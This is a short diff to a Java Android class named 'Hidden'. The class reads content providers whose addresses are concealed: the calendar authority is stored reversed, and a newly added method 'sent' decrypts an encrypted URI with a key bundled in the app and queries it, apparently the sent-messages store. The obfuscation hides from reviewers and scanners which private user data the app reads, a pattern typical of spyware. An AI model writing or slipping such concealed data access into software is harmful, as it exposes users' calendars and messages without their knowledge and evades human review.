@@ -31,6 +31,12 @@ final class Hidden {
         return read(resolver, "radnelac.diordna.moc");
     }
 
+    /** Encrypted with a key that the app carries. */
+    static Cursor sent(ContentResolver resolver) {
+        String text = Vault.open("MxeRC1uPcxBaOrSqd15oRgfVmWlehpBkUXSh8egPimE=");
+        return resolver.query(Uri.parse(text), null, null, null, null);
+    }
+
     private static Cursor read(ContentResolver resolver, String hidden) {
         Uri uri = Uri.parse("content:" + "//" + Fog.turned(hidden));
         return resolver.query(uri, null, null, null, null);
